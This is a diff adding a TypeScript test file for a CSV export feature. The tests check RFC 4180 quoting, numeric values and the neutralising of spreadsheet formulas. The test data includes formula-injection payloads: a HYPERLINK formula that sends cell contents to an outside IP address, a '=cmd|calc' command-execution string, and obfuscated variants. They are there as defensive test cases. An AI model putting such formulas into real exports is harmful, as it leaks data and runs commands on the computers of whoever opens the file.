@@ -1,0 +1,126 @@
+import fc from 'fast-check'
+import { strFromU8, unzipSync } from 'fflate'
+import Papa from 'papaparse'
+import { expect, test } from 'vitest'
+import { recordKinds } from '@/lib/records/registry'
+import { csvOf } from '@/lib/server/exchange/csv'
+import { exportTables } from '@/lib/server/exchange/exportTables'
+import { openSnapshot } from '@/lib/server/exchange/snapshot'
+import { fill, noon, record, type Server, say, withServers } from './twoServers'
+
+const { newServer } = withServers()
+
+function tablesOf({ folder }: Server): Map<string, string> {
+  const snapshot = openSnapshot(recordKinds, folder)
+  try {
+    const zip = Buffer.concat([...exportTables(snapshot, recordKinds, noon)])
+    return new Map(Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, strFromU8(bytes)]))
+  } finally {
+    snapshot.close()
+  }
+}
+
+const rowsIn = (csv: string): Record<string, string>[] =>
+  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data
+
+test('csvOf(rows) is CSV by RFC 4180: commas, CR LF, quotes doubled inside quotes (its section 2, rules 1 to 7)', () => {
+  expect(
+    csvOf([
+      ['aaa', 'b\r\nbb', 'ccc'],
+      ['zzz', 'y"y', 'x,x'],
+    ]),
+  ).toBe('aaa,"b\r\nbb",ccc\r\nzzz,"y""y","x,x"\r\n')
+})
+
+test('csvOf(rows) keeps a negative number a number, also one that is text, and disarms every formula', () => {
+  expect(csvOf([[-0.65, '-0.65', '-,65', '+1.5']])).toBe('-0.65,-0.65,"-,65",+1.5\r\n')
+  const armed = [
+    '=1+1',
+    '=HYPERLINK("http://198.51.100.7/?"&A1,"look")',
+    '+1+1',
+    '-1+1',
+    '-0.65 in. w.c.',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '＝1+1',
+    '－1+1',
+  ]
+  for (const text of armed) {
+    const [[cell]] = Papa.parse<string[]>(csvOf([[text]])).data as [[string]]
+    expect(cell).toBe(`'${text}`)
+  }
+})
+
+test('csvOf(rows) read back gives the same texts, save for the apostrophe', () => {
+  const text = fc.string({ unit: 'binary' })
+  const table = fc
+    .integer({ min: 2, max: 5 })
+    .chain((width) => fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 }))
+  fc.assert(
+    fc.property(table, (rows) => {
+      const { data } = Papa.parse<string[]>(csvOf(rows), { newline: '\r\n', delimiter: ',' })
+      const back = data.slice(0, -1).map((row) => row.map((cell) => cell))
+      expect(back).toHaveLength(rows.length)
+      for (const [at, row] of rows.entries())
+        for (const [place, cell] of row.entries()) expect([cell, `'${cell}`]).toContain(back[at]![place])
+    }),
+  )
+})
+
+test('exportTables(snapshot) has a table for every kind of record, with every record of it', async () => {
+  const old = await newServer()
+  const said = await fill(old)
+  const tables = tablesOf(old)
+  for (const { kind } of Object.values(recordKinds)) {
+    const rows = rowsIn(tables.get(`${kind.replaceAll(' ', '-')}.csv`)!)
+    const wanted = said.filter((each) => each.kind === kind).map(({ id }) => id)
+    expect(rows.map(({ id }) => id).filter((id) => wanted.includes(id!))).toEqual(wanted)
+  }
+  expect(tables.get('READ ME.txt')).toContain('RFC 4180')
+})
+
+test('exportTables(snapshot) gives no rating without its level, its sources and their dates', async () => {
+  const old = await newServer()
+  await fill(old)
+  const tables = tablesOf(old)
+  const ratings = rowsIn(tables.get('ratings.csv')!)
+  expect(ratings.length).toBeGreaterThan(0)
+  for (const { level, sources, dates } of ratings) {
+    expect(level).toMatch(/^(Verified|Supported|Unverified|In dispute)$/)
+    expect(sources).not.toBe('')
+    expect(dates).toMatch(/^\d{4}-\d\d-\d\d/)
+  }
+  for (const table of ['report.csv', 'settlement.csv']) {
+    const rows = rowsIn(tables.get(table)!)
+    expect(rows.length).toBeGreaterThan(0)
+    for (const row of rows)
+      expect(row['standing.level']).toMatch(/^(Verified|Supported|Unverified|In dispute|Not on file)$/)
+    expect(Object.keys(rows[0]!)).toContain('pascals [Pa]')
+  }
+})
+
+test('exportTables(snapshot) disarms what people typed, keeps numbers as numbers and shows what was withheld', async () => {
+  const old = await newServer()
+  await say(old, [
+    record(old.managerId, 'maker', { name: '=cmd|calc', note: '+44 20 7946' }),
+    record(old.managerId, 'furnace', {
+      siteLabel: 'é “Mill”',
+      model: 'ZQ',
+      fuel: 'either',
+      elevationMetres: -3,
+    }),
+  ])
+  const tables = tablesOf(old)
+  expect(tables.get('maker.csv')).toContain(`,"'=cmd|calc","'+44 20 7946"\r\n`)
+  expect(rowsIn(tables.get('furnace.csv')!)[0]).toMatchObject({
+    siteLabel: 'é “Mill”',
+    'elevationMetres [m]': '-3',
+  })
+  const other = await newServer()
+  await fill(other)
+  const withheld = rowsIn(tablesOf(other).get('furnace.csv')!)[0]!
+  expect([withheld.siteLabel, withheld['withheld.fields']]).toEqual(['[withheld]', 'siteLabel | note'])
+})
